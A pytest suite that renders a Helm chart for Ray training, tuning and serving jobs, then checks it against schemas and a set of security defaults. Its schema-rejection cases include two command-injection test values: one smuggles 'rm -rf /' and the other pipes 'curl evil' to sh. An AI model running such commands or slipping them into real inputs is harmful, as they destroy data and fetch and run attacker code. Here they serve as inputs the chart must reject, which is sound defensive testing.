"""The Helm chart, rendered by the real helm binary (.tools/helm, `make tools`) with the default
values and every example values file in charts/vft/ci/. No Kubernetes API server can run here, so
each rendered object is validated against schemas instead: built-in kinds with
kubernetes-validate (strict, the newest Kubernetes it knows), RayJob/RayService/RayCluster with
KubeRay v1.7.0's CRD schemas made strict (additionalProperties: false), and serveConfigV2 with
Ray Serve's ServeDeploySchema. The chart's files without helm: tests/unit/test_chart_files.py."""

from __future__ import annotations

import re
import shlex
import subprocess

import pytest
import yaml
from chart_tools import (
    CHART,
    ROOT,
    VALUES_FILES,
    load_crd_schemas,
    merge_values,
    pod_templates,
    ray_cluster,
    run_helm,
    template,
    unknown_keys,
    validate_builtin,
    validate_crd,
    values_id,
)

CUSTOM_KINDS = {"RayJob", "RayService", "RayCluster"}
MAIN_KIND = {"train": "RayJob", "tune": "RayJob", "serve": "RayService"}


@pytest.fixture(scope="session")
def crd_schemas(request) -> dict[str, dict]:
    return load_crd_schemas(request.config.cache.mkdir("vft-kuberay-schemas"))


@pytest.fixture(scope="module", params=VALUES_FILES, ids=values_id)
def rendered(request) -> tuple[dict, list[dict]]:
    """(values as helm merged them, rendered objects) for one values file."""
    values = yaml.safe_load((CHART / "values.yaml").read_text())
    if request.param is not None:
        values = merge_values(values, yaml.safe_load(request.param.read_text()))
    return values, template(request.param)


def by_kind(docs: list[dict], kind: str) -> list[dict]:
    return [d for d in docs if d["kind"] == kind]


def containers_of(template_: dict) -> list[dict]:
    spec = template_["spec"]
    return spec.get("initContainers", []) + spec["containers"]


def entrypoint_overrides(doc: dict) -> dict[str, str]:
    return dict(a.split("=", 1) for a in shlex.split(doc["spec"]["entrypoint"]) if "=" in a and "." in a)


# ----------------------------------------------------------------------------- lint and render


@pytest.mark.parametrize("values", VALUES_FILES, ids=values_id)
def test_helm_lint_strict(values):
    args = ["lint", "--strict", str(CHART)] + (["-f", str(values)] if values else [])
    proc = run_helm(*args, check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "0 chart(s) failed" in proc.stdout


def test_rendered_objects_match_their_schemas(rendered, crd_schemas):
    values, docs = rendered
    kinds = sorted(d["kind"] for d in docs)
    expected = ["ConfigMap", "NetworkPolicy", "ServiceAccount", MAIN_KIND[values["workload"]]]
    expected += ["PodDisruptionBudget"] if values["podDisruptionBudget"]["enabled"] else []
    expected += ["PodMonitor"] * 2 if values["metrics"]["podMonitor"]["enabled"] else []
    assert kinds == sorted(expected)
    check_schemas(docs, crd_schemas)


def check_schemas(docs: list[dict], crd_schemas: dict[str, dict]) -> None:
    for doc in docs:
        where = f"{doc['kind']} {doc['metadata']['name']}"
        if doc["kind"] == "PodMonitor":  # no Prometheus Operator CRD here: its required fields
            assert doc["apiVersion"] == "monitoring.coreos.com/v1"
            assert doc["spec"]["selector"]["matchLabels"] and doc["spec"]["podMetricsEndpoints"]
            assert all(set(e) <= {"port", "interval"} for e in doc["spec"]["podMetricsEndpoints"])
        elif doc["kind"] in CUSTOM_KINDS:
            errors = validate_crd(doc, crd_schemas)
            assert not errors, f"{where} breaks the KubeRay v1.7.0 CRD schema:\n" + "\n".join(errors)
        else:
            validate_builtin(doc)  # raises on any schema error


def test_serve_config_matches_ray_serve_schema(rendered):
    from ray.serve.schema import ServeDeploySchema

    from serving.app import ServeArgs

    values, docs = rendered
    if values["workload"] != "serve":
        assert not by_kind(docs, "RayService")
        return
    (service,) = by_kind(docs, "RayService")
    config = yaml.safe_load(service["spec"]["serveConfigV2"])
    ServeDeploySchema.model_validate(config)
    assert unknown_keys(ServeDeploySchema, config) == []
    (app,) = config["applications"]
    assert app["import_path"] == "serving.app:build_app"
    serve = values["serve"]
    run_dir = f"/mnt/vft/runs/{values['run']['name']}" if values["storage"]["type"] == "pvc" else None
    args = ServeArgs.model_validate(app["args"])  # what serving.app:build_app accepts
    assert (args.run_dir, args.backend) == (serve["modelUri"] or run_dir, serve["backend"])
    assert (args.max_batch_size, args.max_body_bytes) == (serve["maxBatchSize"], serve["maxBodyBytes"])
    assert (args.max_batch_images, args.max_batch_bytes) == (serve["maxBatchImages"], serve["maxBatchBytes"])
    assert args.score_threshold == serve["scoreThreshold"]
    (deployment,) = app["deployments"]
    assert deployment["name"] == serve["deploymentName"]
    assert deployment["ray_actor_options"]["num_gpus"] == serve["gpusPerReplica"]
    if serve["autoscaling"]["enabled"]:
        assert "num_replicas" not in deployment
        scaling = deployment["autoscaling_config"]
        assert (scaling["min_replicas"], scaling["max_replicas"]) == (
            serve["autoscaling"]["minReplicas"],
            serve["autoscaling"]["maxReplicas"],
        )
        assert ray_cluster(service)["enableInTreeAutoscaling"] is True
    else:
        assert deployment["num_replicas"] == serve["replicas"]
    assert config["http_options"]["port"] == serve["port"]


def test_strict_crd_schemas_catch_misspelt_fields(crd_schemas):
    docs = template()
    (job,) = by_kind(docs, "RayJob")
    assert validate_crd(job, crd_schemas) == []
    job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["securityContxt"] = {}
    job["spec"]["shutdownAfterJobFinish"] = True
    errors = "\n".join(validate_crd(job, crd_schemas))
    assert "securityContxt" in errors and "shutdownAfterJobFinish" in errors


# ----------------------------------------------------------------------------- security


def test_secure_defaults(rendered):
    values, docs = rendered
    kinds = {d["kind"] for d in docs}
    assert not kinds & {"Secret", "Role", "ClusterRole", "RoleBinding", "ClusterRoleBinding", "Ingress"}
    for service in by_kind(docs, "Service"):
        assert service["spec"].get("type", "ClusterIP") == "ClusterIP"

    (account,) = by_kind(docs, "ServiceAccount")
    assert account["automountServiceAccountToken"] is False

    main = next(d for d in docs if d["kind"] in CUSTOM_KINDS)
    cluster = ray_cluster(main)
    assert cluster["authOptions"] == {"mode": "token"}
    head = cluster["headGroupSpec"]
    assert head["serviceType"] == "ClusterIP"  # dashboard and job API stay cluster-internal
    assert not head.get("enableIngress", False)

    (policy,) = by_kind(docs, "NetworkPolicy")
    selector = policy["spec"]["podSelector"]["matchLabels"]
    assert policy["spec"]["policyTypes"] == ["Ingress"]
    rules = policy["spec"]["ingress"]
    assert rules[0] == {"from": [{"podSelector": {"matchLabels": selector}}]}
    for rule in rules[1:]:  # everything else is port-limited: the operator's, the serve and metrics ports
        ports = {p["port"] for p in rule["ports"]}
        assert ports in ({8265}, {values["serve"]["port"]}, {8080, 44217, 44227})
        if ports == {8080, 44217, 44227}:
            assert rule["from"] == values["networkPolicy"]["metricsFrom"]
        if ports == {8265}:
            operator = rule["from"][0]["podSelector"]["matchLabels"]
            assert operator == {"app.kubernetes.io/name": "kuberay-operator"}
    assert any(r.get("ports", [{}])[0].get("port") == values["serve"]["port"] for r in rules) == (
        values["workload"] == "serve"
    )

    autoscaling = cluster.get("enableInTreeAutoscaling", False)
    if autoscaling:
        options = cluster["autoscalerOptions"]
        _check_container_security(options["securityContext"], "autoscaler")
        _check_resources(options["resources"], "autoscaler")

    for where, pod in pod_templates(main):
        labels = pod["metadata"]["labels"]
        assert selector.items() <= labels.items(), f"the NetworkPolicy does not cover the {where} pod"
        spec = pod["spec"]
        assert spec["securityContext"]["runAsNonRoot"] is True, where
        assert spec["securityContext"]["runAsUser"] != 0, where
        assert spec["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}, where
        assert not spec.get("hostNetwork") and not spec.get("hostPID") and not spec.get("hostIPC"), where
        assert all("hostPath" not in v for v in spec.get("volumes", [])), where
        # every pod runs as the release's account (workload identity: its annotations); only an
        # autoscaling head mounts its token, for the autoscaler sidecar KubeRay grants a Role on it
        assert spec["serviceAccountName"] == account["metadata"]["name"], where
        assert spec["automountServiceAccountToken"] is (where == "head" and autoscaling), where
        for container in containers_of(pod):
            _check_container_security(container["securityContext"], f"{where}/{container['name']}")
            _check_resources(container["resources"], f"{where}/{container['name']}")
            for env in container.get("env", []):
                assert "value" not in env or not re.search(r"(?i)secret|password|token", env["name"]), env


def _check_container_security(context: dict, where: str) -> None:
    assert context["runAsNonRoot"] is True, where
    assert context["allowPrivilegeEscalation"] is False, where
    assert context.get("privileged", False) is False, where
    assert context["capabilities"] == {"drop": ["ALL"]}, where
    assert context["seccompProfile"] == {"type": "RuntimeDefault"}, where


def _check_resources(resources: dict, where: str) -> None:
    for kind in ("requests", "limits"):
        assert {"cpu", "memory"} <= set(resources.get(kind, {})), f"{where} has no {kind}"


# ----------------------------------------------------------------------------- the Ray clusters


def test_gpu_worker_group(rendered):
    values, docs = rendered
    main = next(d for d in docs if d["kind"] in CUSTOM_KINDS)
    workers = values["workers"]
    group, *more = ray_cluster(main)["workerGroupSpecs"]
    assert len(more) == len(workers["additionalGroups"])
    # an additional group inherits every workers setting it does not set, empty ones included
    for own, rendered_group in zip([{}, *workers["additionalGroups"]], [group, *more], strict=True):
        settings = {**workers, **own}
        spec = rendered_group["template"]["spec"]
        (container,) = spec["containers"]
        gpus = settings["gpusPerPod"]
        assert container["resources"]["limits"].get("nvidia.com/gpu") == (gpus or None)
        for name, quantity in settings["extraResources"].items():  # e.g. EFA interfaces
            resources = container["resources"]
            assert resources["limits"][name] == resources["requests"][name] == quantity
        for key in ("tolerations", "topologySpreadConstraints", "initContainers"):
            assert spec.get(key, []) == settings[key], key
        for key in ("nodeSelector", "affinity"):
            assert spec.get(key, {}) == settings[key], key
        for key in ("runtimeClassName", "priorityClassName"):
            assert spec.get(key, "") == settings[key], key
        assert container.get("envFrom", []) == settings["envFrom"]
        assert all(e in container["env"] for e in settings["env"])
        assert all(m in container["volumeMounts"] for m in settings["extraVolumeMounts"])
        assert all(v in spec["volumes"] for v in settings["extraVolumes"])
    for where, pod in pod_templates(main):
        if where == "submitter":
            continue
        volumes = {v["name"]: v for v in pod["spec"]["volumes"]}
        mounts = {m["mountPath"]: m["name"] for m in pod["spec"]["containers"][0]["volumeMounts"]}
        assert volumes[mounts["/dev/shm"]]["emptyDir"]["medium"] == "Memory", where
        config_map = by_kind(docs, "ConfigMap")[0]["metadata"]["name"]
        assert volumes[mounts["/config"]]["configMap"]["name"] == config_map


def test_training_job_settings_and_scaling(rendered):
    values, docs = rendered
    if values["workload"] != "train":
        return
    (job,) = by_kind(docs, "RayJob")
    spec = job["spec"]
    job_values = values["job"]
    assert spec["backoffLimit"] == job_values["backoffLimit"]
    assert spec["activeDeadlineSeconds"] == job_values["activeDeadlineSeconds"]
    assert spec["shutdownAfterJobFinishes"] is job_values["shutdownAfterJobFinishes"]
    assert spec["ttlSecondsAfterFinished"] == job_values["ttlSecondsAfterFinished"]
    args = shlex.split(spec["entrypoint"])
    run_name = values["run"]["name"] or "demo"
    assert args[:5] == ["vft", "train", "/config/config.yaml", "--name", run_name]
    overrides = entrypoint_overrides(job)
    (group,) = ray_cluster(job)["workerGroupSpecs"]
    gpus = values["workers"]["gpusPerPod"]
    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"] == values["workers"]["replicas"]
    assert int(overrides["scaling.num_workers"]) == group["replicas"] * max(gpus, 1)
    assert overrides["scaling.use_gpu"] == ("true" if gpus else "false")
    for item in values["run"]["overrides"]:
        assert item in args
    storage = values["storage"]
    expected = storage["uri"] if storage["type"] != "pvc" else f"{storage['mountPath']}/{storage['runsPath']}"
    assert overrides["run.storage"] == expected


def test_tune_autoscaling_matches_concurrent_trials(rendered):
    values, docs = rendered
    if values["workload"] != "tune":
        return
    (job,) = by_kind(docs, "RayJob")
    cluster = ray_cluster(job)
    assert cluster["enableInTreeAutoscaling"] is True
    (group,) = cluster["workerGroupSpecs"]
    tune = values["tune"]
    assert group["replicas"] == group["minReplicas"] == tune["minReplicas"]
    assert group["maxReplicas"] == tune["maxReplicas"]
    gpus_needed = tune["maxConcurrentTrials"] * tune["workersPerTrial"]
    assert group["maxReplicas"] * values["workers"]["gpusPerPod"] >= gpus_needed
    space = yaml.safe_load(by_kind(docs, "ConfigMap")[0]["data"]["space.yaml"])
    assert space["max_concurrent_trials"] == tune["maxConcurrentTrials"]
    args = shlex.split(job["spec"]["entrypoint"])
    assert args[:5] == ["vft", "tune", "/config/config.yaml", "--space", "/config/space.yaml"]
    assert entrypoint_overrides(job)["scaling.num_workers"] == str(tune["workersPerTrial"])


def test_tune_max_replicas_defaults_to_what_the_trials_need():
    docs = template(sets=["workload=tune", "tune.maxConcurrentTrials=3", "tune.workersPerTrial=2"])
    (group,) = ray_cluster(by_kind(docs, "RayJob")[0])["workerGroupSpecs"]
    assert group["maxReplicas"] == 6  # 3 trials x 2 workers, 1 GPU per pod
    docs = template(sets=["workload=tune", "tune.maxConcurrentTrials=3", "workers.gpusPerPod=4"])
    (group,) = ray_cluster(by_kind(docs, "RayJob")[0])["workerGroupSpecs"]
    assert group["maxReplicas"] == 1
    # CPUs as well: 4 trials x (1 driver + 2 workers x 4 CPUs) = 36 CPUs on 8-CPU pods: 5, not 4
    sets = ["workload=tune", "tune.maxConcurrentTrials=4", "tune.workersPerTrial=2", "workers.gpusPerPod=2"]
    docs = template(sets=sets, extra=["--set-json", 'config.scaling={"cpus_per_worker": 4}'])
    (group,) = ray_cluster(by_kind(docs, "RayJob")[0])["workerGroupSpecs"]
    assert group["maxReplicas"] == 5


def test_serve_pods_follow_replicas_per_gpu():
    docs = template(CHART / "ci" / "serve-autoscaling-values.yaml")
    (group,) = ray_cluster(by_kind(docs, "RayService")[0])["workerGroupSpecs"]
    assert (group["minReplicas"], group["maxReplicas"]) == (1, 4)  # 2..8 replicas, 2 per GPU


def test_production_serving_values():
    """ci/serve-production-values.yaml: the upgrade strategy, GCS fault tolerance from a Secret,
    a PodDisruptionBudget over the workers only, and a head that takes no replicas."""
    values = merge_values(
        yaml.safe_load((CHART / "values.yaml").read_text()),
        yaml.safe_load((CHART / "ci" / "serve-production-values.yaml").read_text()),
    )
    docs = template(CHART / "ci" / "serve-production-values.yaml", release="serve")
    (service,) = by_kind(docs, "RayService")
    assert service["spec"]["upgradeStrategy"] == {"type": "None"}
    cluster = ray_cluster(service)
    assert cluster["gcsFaultToleranceOptions"] == {
        "redisAddress": "redis://vft-redis.ml.svc:6379",
        "redisPassword": {"valueFrom": {"secretKeyRef": {"name": "vft-redis", "key": "password"}}},
    }
    assert cluster["headGroupSpec"]["rayStartParams"]["num-cpus"] == "0"
    head = cluster["headGroupSpec"]["template"]["spec"]
    assert head["priorityClassName"] == "vft-critical" and "runtimeClassName" not in head
    assert {"name": "RAY_LOG_TO_STDERR", "value": "1"} in head["containers"][0]["env"]
    (budget,) = by_kind(docs, "PodDisruptionBudget")
    assert budget["spec"]["maxUnavailable"] == values["podDisruptionBudget"]["maxUnavailable"]
    selector = budget["spec"]["selector"]["matchLabels"]
    selected = [
        where
        for where, pod in pod_templates(service)
        if selector.items() <= pod["metadata"]["labels"].items()
    ]
    assert selected == ["worker gpu", "worker cpu-preprocess"]
    # 4 one-GPU replicas on 2-GPU pods: 2 pods; the CPU group as configured
    assert [(g["groupName"], g["replicas"]) for g in cluster["workerGroupSpecs"]] == [
        ("gpu", 2),
        ("cpu-preprocess", 1),
    ]


def test_pod_monitors_scrape_the_metrics_ports_prometheus_may_reach():
    """Each PodMonitor selects exactly its pods (head or every worker group), each endpoint names
    a port those pods declare, and the NetworkPolicy admits Prometheus to exactly those ports."""
    docs = template(CHART / "ci" / "serve-production-values.yaml", release="serve")
    (service,) = by_kind(docs, "RayService")
    pods = pod_templates(service)
    monitors = {m["metadata"]["name"]: m for m in by_kind(docs, "PodMonitor")}
    assert set(monitors) == {"serve-vft-head", "serve-vft-worker"}
    for name, monitor in monitors.items():
        assert monitor["metadata"]["labels"]["release"] == "kube-prometheus-stack"
        selector = monitor["spec"]["selector"]["matchLabels"]
        selected = [
            (where, pod) for where, pod in pods if selector.items() <= pod["metadata"]["labels"].items()
        ]
        assert [w for w, _ in selected] == (
            ["head"] if name.endswith("head") else ["worker gpu", "worker cpu-preprocess"]
        )
        for where, pod in selected:
            declared = {p["name"]: p["containerPort"] for p in pod["spec"]["containers"][0]["ports"]}
            for endpoint in monitor["spec"]["podMetricsEndpoints"]:
                assert endpoint["port"] in declared, (where, endpoint)
    (policy,) = by_kind(docs, "NetworkPolicy")
    (metrics_rule,) = [
        r for r in policy["spec"]["ingress"] if {p["port"] for p in r.get("ports", [])} >= {8080}
    ]
    assert {p["port"] for p in metrics_rule["ports"]} == {8080, 44217, 44227}
    assert metrics_rule["from"] == [
        {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}
    ]
    assert not by_kind(template(), "PodMonitor")  # off by default


def test_incremental_upgrades_pass_kuberays_options_through(crd_schemas):
    options = {"gatewayClassName": "istio", "stepSizePercent": 25, "intervalSeconds": 60}
    sets = ["workload=serve", "serve.upgradeStrategy.type=NewClusterWithIncrementalUpgrade"]
    sets += [f"serve.upgradeStrategy.clusterUpgradeOptions.{k}={v}" for k, v in options.items()]
    (service,) = by_kind(template(sets=sets), "RayService")
    assert service["spec"]["upgradeStrategy"] == {
        "type": "NewClusterWithIncrementalUpgrade",
        "clusterUpgradeOptions": options,
    }
    assert validate_crd(service, crd_schemas) == []


def test_a_model_in_object_storage_is_served_without_a_claim():
    sets = ["workload=serve", "storage.claimName=", "serve.modelUri=s3://bucket/runs/flowers"]
    (service,) = by_kind(template(sets=sets), "RayService")
    (app,) = yaml.safe_load(service["spec"]["serveConfigV2"])["applications"]
    assert app["args"]["run_dir"] == "s3://bucket/runs/flowers"
    for _, pod in pod_templates(service):
        assert "storage" not in {v["name"] for v in pod["spec"]["volumes"]}


@pytest.mark.parametrize("workload", ["train", "tune", "serve"])
def test_an_image_digest_pins_every_vft_container(workload):
    """checkov's CKV_K8S_43: production pins the image by digest, which replaces the tag."""
    digest = "sha256:" + "0123456789abcdef" * 4
    repo = "image.repository=registry.example.com/vft"
    docs = template(sets=[f"workload={workload}", repo, "image.tag=0.1.0", f"image.digest={digest}"])
    (main,) = by_kind(docs, MAIN_KIND[workload])
    images = {
        c["image"] for where, pod in pod_templates(main) if where != "submitter" for c in containers_of(pod)
    }
    assert images == {f"registry.example.com/vft@{digest}"}, images


@pytest.mark.parametrize("workload", ["train", "tune", "serve"])
def test_a_tracking_server_reaches_every_ray_container(workload):
    sets = [f"workload={workload}", "tracking.uri=http://mlflow.mlops.svc:5000"]
    sets.append("tracking.credentialsSecret=mlf")
    if workload == "serve":
        sets.append("serve.modelUri=models:/flowers@production")
    (doc,) = [d for d in template(sets=sets) if d["kind"] in ("RayJob", "RayService")]
    for where, pod in pod_templates(doc):
        if where == "submitter":
            continue
        env = {e["name"]: e for e in pod["spec"]["containers"][0]["env"]}
        assert env["MLFLOW_TRACKING_URI"]["value"] == "http://mlflow.mlops.svc:5000", where
        for key in ("MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD", "MLFLOW_TRACKING_TOKEN"):
            assert env[key]["valueFrom"]["secretKeyRef"] == {"name": "mlf", "key": key, "optional": True}
    if workload == "serve":
        (app,) = yaml.safe_load(doc["spec"]["serveConfigV2"])["applications"]
        assert app["args"]["run_dir"] == "models:/flowers@production"


@pytest.mark.parametrize(
    ("sets", "pods"),
    [
        # 0.25 GPU but 4 of a pod's 8 CPUs per replica: 2 replicas per pod, not 4
        (["serve.replicas=10", "serve.cpusPerReplica=4", "serve.gpusPerReplica=0.25"], 5),
        # CPU replicas on 4.5-CPU pods: 2 per pod
        (["serve.replicas=5", "serve.cpusPerReplica=2", "serve.gpusPerReplica=0", "workers.gpusPerPod=0",
          "workers.resources.limits.cpu=\"4500m\""], 3),
        # Ray told of fewer CPUs than the limit
        (["serve.replicas=4", "serve.cpusPerReplica=2", "workers.gpusPerPod=8",
          "workers.rayStartParams.num-cpus=\"4\""], 2),
    ],
)  # fmt: skip
def test_serve_pods_hold_the_replicas_by_cpus_and_gpus(sets, pods):
    extra = ["--set", "workload=serve"] + [a for item in sets for a in ("--set-json", item)]
    (service,) = by_kind(template(extra=extra), "RayService")
    (group,) = ray_cluster(service)["workerGroupSpecs"]
    assert group["replicas"] == pods


def test_storage_credentials_come_from_secret_references():
    docs = template(CHART / "ci" / "train-s3-values.yaml")
    (job,) = by_kind(docs, "RayJob")
    assert entrypoint_overrides(job)["run.storage"] == "s3://vft-example-bucket/vft/runs"
    for where, pod in pod_templates(job):
        if where == "submitter":
            continue
        env = {e["name"]: e for e in pod["spec"]["containers"][0]["env"]}
        for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
            assert "value" not in env[key]
            assert env[key]["valueFrom"]["secretKeyRef"] == {"name": "vft-s3-credentials", "key": key}
        assert env["AWS_DEFAULT_REGION"]["value"] == "eu-west-1"

    gcs = ["storage.type=gcs", "storage.uri=gs://bucket/runs", "storage.credentialsSecret=gcs-key"]
    docs = template(sets=gcs)
    (job,) = by_kind(docs, "RayJob")
    assert entrypoint_overrides(job)["run.storage"] == "gs://bucket/runs"
    head = job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    env = {e["name"]: e.get("value") for e in head["containers"][0]["env"]}
    mounts = {m["name"]: m["mountPath"] for m in head["containers"][0]["volumeMounts"]}
    assert env["GOOGLE_APPLICATION_CREDENTIALS"] == mounts["gcs-credentials"] + "/key.json"
    assert {"name": "gcs-credentials", "secret": {"secretName": "gcs-key"}} in head["volumes"]


def test_datasets_in_object_storage_get_credentials_and_a_cache_volume():
    """Runs on the claim, data in S3 (or GCS through run.overrides): the pods get the object
    store's settings and credentials from the Secret, and an emptyDir for their dataset copy."""
    s3 = ["config.data.train=s3://bucket/digits/train", "storage.credentialsSecret=creds",
          "storage.s3.endpointUrl=http://minio:9000", "storage.dataCacheSize=20Gi"]  # fmt: skip
    gcs = ["run.overrides[0]=data.val=gs://bucket/val", "storage.credentialsSecret=key"]
    for sets, expected in (
        (s3, {"AWS_ACCESS_KEY_ID", "AWS_ENDPOINT_URL"}),
        (gcs, {"GOOGLE_APPLICATION_CREDENTIALS"}),
    ):
        (job,) = by_kind(template(sets=sets), "RayJob")
        for where, pod in pod_templates(job):
            if where == "submitter":
                continue
            container = pod["spec"]["containers"][0]
            env = {e["name"]: e for e in container["env"]}
            assert expected <= set(env) and env["VFT_DATA_CACHE"]["value"] == "/var/cache/vft/datasets"
            assert "value" not in env.get("AWS_ACCESS_KEY_ID", {})  # a secretKeyRef, never the key
            mounts = {m["name"]: m["mountPath"] for m in container["volumeMounts"]}
            assert mounts["data-cache"] == env["VFT_DATA_CACHE"]["value"]
            (cache,) = [v for v in pod["spec"]["volumes"] if v["name"] == "data-cache"]
            assert cache["emptyDir"]["sizeLimit"] == ("20Gi" if sets is s3 else "50Gi")
    (job,) = by_kind(template(), "RayJob")  # data on the claim: none of it
    for _, pod in pod_templates(job):
        names = {e["name"] for c in pod["spec"]["containers"] for e in c.get("env", [])}
        assert not names & {"VFT_DATA_CACHE", "AWS_ACCESS_KEY_ID", "GOOGLE_APPLICATION_CREDENTIALS"}
        assert "data-cache" not in {v["name"] for v in pod["spec"].get("volumes", [])}


def test_config_file_from_set_file_is_kept_verbatim():
    config = ROOT / "configs" / "digits.yaml"
    docs = template(extra=["--set-file", f"configFile={config}"])
    (config_map,) = by_kind(docs, "ConfigMap")
    assert config_map["data"]["config.yaml"].strip() == config.read_text().strip()


# ----------------------------------------------------------------------------- bad values


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        ("workers.replicas=-1", "/workers/replicas"),
        ("serve.replicas=-3", "/serve/replicas"),
        ("tune.minReplicas=-1", "/tune/minReplicas"),
        ("workers.gpusPerPod=two", "/workers/gpusPerPod"),
        ("workers.gpusPerPod=1.5", "/workers/gpusPerPod"),
        ("workers.gpuPerPod=1", "gpuPerPod"),
        ("replicas=2", "replicas"),
        ("workload=predict", "/workload"),
        ("storage.type=nfs", "/storage/type"),
        ("serve.backend=tflite", "/serve/backend"),
        ("config.modle.name=x", "modle"),
        ("run.name=a b", "/run/name"),
        ("run.overrides={train.epochs=1;rm -rf /}", "/run/overrides"),
        ("head.resources.limits=null", "/head/resources"),
        ("rayVersion=2.40.0", "/rayVersion"),
        ("labels.app\\.kubernetes\\.io/instance=other", "/labels/app.kubernetes.io~1instance"),
        ("head.rayStartParams.num-cpus=0;curl evil|sh", "/head/rayStartParams/num-cpus"),
        ("workers.rayStartParams.Bad Name=1", "Bad Name"),
        ("serve.autoscaling.maxReplicas=2147483648", "/serve/autoscaling/maxReplicas"),
        ("workers.extraResources.nvidia\\.com/gpu=2", "/workers/extraResources/nvidia.com~1gpu"),
        ("workers.extraResources.efa=1", "efa"),
        ("serve.upgradeStrategy.type=BlueGreen", "/serve/upgradeStrategy/type"),
        ("workers.additionalGroups[0].name=gpu", "/workers/additionalGroups/0/name"),
        ("workers.additionalGroups[0].replicas=1", "/workers/additionalGroups/0"),
        ("head.runtimeClassName=Not_A_Name", "/head/runtimeClassName"),
        ("gcsFaultTolerance.redisAddress=redis", "/gcsFaultTolerance/redisAddress"),
        ("tracking.uri=file:///mnt/mlruns", "/tracking/uri"),
        ("serve.modelUri=models:/flowers", "/serve/modelUri"),
        ("image.digest=latest", "/image/digest"),
    ],
)
def test_values_schema_rejects(setting, message):
    proc = run_helm("template", "demo", str(CHART), "--set", setting, check=False)
    assert proc.returncode != 0, f"--set {setting} was accepted"
    assert message in proc.stderr, proc.stderr


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (["workload=tune", "tune.maxConcurrentTrials=4", "tune.maxReplicas=2"], "tune.maxReplicas"),
        (["workload=tune", "tune.minReplicas=9", "tune.maxReplicas=8"], "tune.minReplicas"),
        (["workload=serve", "serve.gpusPerReplica=2"], "serve.gpusPerReplica"),
        (["workload=serve", "serve.cpusPerReplica=16"], "serve.cpusPerReplica"),
        (["metrics.podMonitor.enabled=true"], "networkPolicy.metricsFrom"),
        (["workload=tune", "run.overrides[0]=scaling.cpus_per_worker=9"], "scaling.cpus_per_worker"),
        (["storage.claimName="], "storage.claimName"),
        (["storage.type=s3"], "storage.uri"),
        (["storage.type=gcs", "storage.uri=s3://bucket/runs"], "storage.uri"),
        (["workload=serve", "storage.claimName=", "serve.modelUri=/mnt/vft/runs/a"], "serve.modelUri"),
        (["gcsFaultTolerance.enabled=true", "gcsFaultTolerance.redisAddress=r:1"], "Tolerance.enabled"),
        (["workload=serve", "gcsFaultTolerance.enabled=true"], "gcsFaultTolerance.redisAddress"),
        (["workload=serve", "serve.upgradeStrategy.type=NewClusterWithIncrementalUpgrade"], "gatewayClass"),
        (["workload=serve", "serve.modelUri=models:/flowers@production"], "tracking.uri"),
    ],
)
def test_inconsistent_values_fail_with_the_field(settings, message):
    args = ["template", "demo", str(CHART)] + [a for s in settings for a in ("--set", s)]
    proc = run_helm(*args, check=False)
    assert proc.returncode != 0
    assert message in proc.stderr, proc.stderr


# ----------------------------------------------------------------------------- k8s/ examples


def test_k8s_examples_are_rendered_from_the_chart(tmp_path):
    """k8s/examples/ is what k8s/render.sh makes from the chart; rerun it after changing the chart."""
    proc = subprocess.run(
        ["bash", str(ROOT / "k8s" / "render.sh"), str(tmp_path)], capture_output=True, text=True, cwd=ROOT
    )
    assert proc.returncode == 0, proc.stderr
    fresh = sorted(p.name for p in tmp_path.glob("*.yaml"))
    committed = sorted(p.name for p in (ROOT / "k8s" / "examples").glob("*.yaml"))
    assert fresh == committed and fresh
    for name in fresh:
        assert (ROOT / "k8s" / "examples" / name).read_text() == (tmp_path / name).read_text(), (
            f"k8s/examples/{name} is stale: run `bash k8s/render.sh`"
        )


def test_production_walkthrough_renders(crd_schemas):
    """Every `helm install|upgrade RELEASE charts/vft ...` in k8s/production.md, as `helm
    template` with the same values, renders objects valid against the schemas."""
    text = (ROOT / "k8s" / "production.md").read_text()
    blocks = re.findall(r"```bash\n(.*?)```", text, re.S)
    commands = [shlex.split(c) for b in blocks for c in b.replace("\\\n", " ").splitlines()]
    ours = [
        c
        for c in commands
        if c[:2] in (["helm", "install"], ["helm", "upgrade"]) and c[3:4] == ["charts/vft"]
    ]
    assert len(ours) >= 7, ours
    for command in ours:
        args = [a for a in command[4:] if a != "--create-namespace"]
        if "-n" in args:
            del args[args.index("-n") : args.index("-n") + 2]
        docs = [
            d for d in yaml.safe_load_all(run_helm("template", command[2], str(CHART), *args).stdout) if d
        ]
        assert any(d["kind"] in CUSTOM_KINDS for d in docs), command
        check_schemas(docs, crd_schemas)


def test_k8s_examples_are_valid(crd_schemas):
    for path in (ROOT / "k8s" / "examples").glob("*.yaml"):
        for doc in yaml.safe_load_all(path.read_text()):
            if not doc:
                continue
            if doc["kind"] in CUSTOM_KINDS:
                assert validate_crd(doc, crd_schemas) == [], path
            else:
                validate_builtin(doc)


def test_chart_notes_render(tmp_path):
    proc = run_helm("install", "demo", str(CHART), "--dry-run=client", "--namespace", "ml", check=False)
    assert proc.returncode == 0, proc.stderr
    notes = proc.stdout.split("NOTES:", 1)[1]
    assert "RayJob demo-vft" in notes and "token" in notes
